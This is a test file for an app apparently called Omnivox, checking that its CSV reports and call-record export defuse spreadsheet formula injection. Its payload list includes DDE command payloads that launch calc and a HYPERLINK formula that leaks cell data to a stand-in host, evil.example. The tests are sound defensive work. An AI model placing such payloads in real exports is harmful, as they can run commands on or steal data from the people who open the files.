"""No CSV Omnivox writes holds a live spreadsheet formula (CSV injection, OWASP).

Uploaded rows come back in the rejected-rows reports of contact and do-not-call imports, and
carrier text comes back in the call-record export: a cell that starts with =, +, -, @, a tab or
a carriage return is written with a leading single quote, unless it is a plain number (an
E.164 phone number stays readable).
"""
from __future__ import annotations

import csv
import io
import re

import pytest

from app.common.csvout import neutralise
from app.contacts.importer import run_contact_import
from app.dnc.importer import run_dnc_import
from tests.calls.factories import make_call, make_campaign

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def _live_formulas(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: a formula start, and not a plain number."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _PLAIN_NUMBER.fullmatch(cell)]


def _cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}


@pytest.mark.parametrize("value, written", [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-1+cmd", "'-1+cmd"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("+12125550100", "+12125550100"),
    ("-12.5", "-12.5"),
    ("42", "42"),
    ("Ada Lovelace", "Ada Lovelace"),
    ("", ""),
    (None, ""),
    (-3, -3),
    (2.5, 2.5),
])
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_run_it(value, written):
    assert neutralise(value) == written


@pytest.fixture
def supervisor_campaign(users, campaigns, upload_dir):
    supervisor = users.create("supervisor")
    return supervisor, campaigns.create(supervisors=[supervisor])


def test_rejected_contact_rows_come_back_without_live_formulas(app, signed_in, supervisor_campaign):
    supervisor, cid = supervisor_campaign
    client = signed_in(supervisor)
    header = "phone,first_name,last_name,@notes\n"
    rows = "".join(f'"{p.replace(chr(34), chr(34) * 2)}","{p.replace(chr(34), chr(34) * 2)}",x,y\n'
                   for p in PAYLOADS)
    upload = client.post(f"/api/campaigns/{cid}/contacts/import", content_type="multipart/form-data",
                         data={"file": (io.BytesIO((header + rows).encode()), "list.csv")})
    assert upload.status_code == 202, upload.get_json()
    job_id = upload.get_json()["id"]
    with app.app_context():
        run_contact_import(job_id)
    report = client.get(f"/api/imports/{job_id}/rejections.csv")
    assert report.status_code == 200
    text = report.get_data(as_text=True)
    assert len(list(csv.reader(io.StringIO(text, newline="")))) == 1 + len(PAYLOADS)
    assert _live_formulas(text) == []
    assert {"'" + p for p in PAYLOADS} <= _cells(text)  # still there to fix, only defused
    assert "'@notes" in _cells(text)


def test_rejected_do_not_call_rows_come_back_without_live_formulas(app, signed_in, users, upload_dir):
    admin = users.create("admin")
    client = signed_in(admin)
    text = "Number,Why\n" + "".join(f'"{p.replace(chr(34), chr(34) * 2)}",why\n' for p in PAYLOADS)
    upload = client.post("/api/dnc/import", content_type="multipart/form-data", data={
        "file": (io.BytesIO(text.encode()), "dnc.csv"),
        "column_map": '{"phone": "Number", "reason": "Why"}'})
    assert upload.status_code == 202, upload.get_json()
    job_id = upload.get_json()["id"]
    with app.app_context():
        run_dnc_import(job_id)
    report = client.get(f"/api/imports/{job_id}/rejections.csv").get_data(as_text=True)
    assert len(list(csv.reader(io.StringIO(report, newline="")))) == 1 + len(PAYLOADS)
    assert _live_formulas(report) == []


def test_the_call_record_export_holds_no_live_formula(app, signed_in, users):
    admin = users.create("admin")
    campaign = make_campaign(app)
    for payload in PAYLOADS:
        make_call(app, campaign, status="failed", outcome="failed", error_message=payload,
                  answered_by=payload[:32], recording_url=payload, call_sid=payload[:64])
    export = signed_in(admin).get("/api/call-records/export").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(export, newline="")))
    assert len(rows) == len(PAYLOADS)
    assert _live_formulas(export) == []
    assert {r["Phone"] for r in rows} == {"+12025550111"}  # phone numbers stay readable
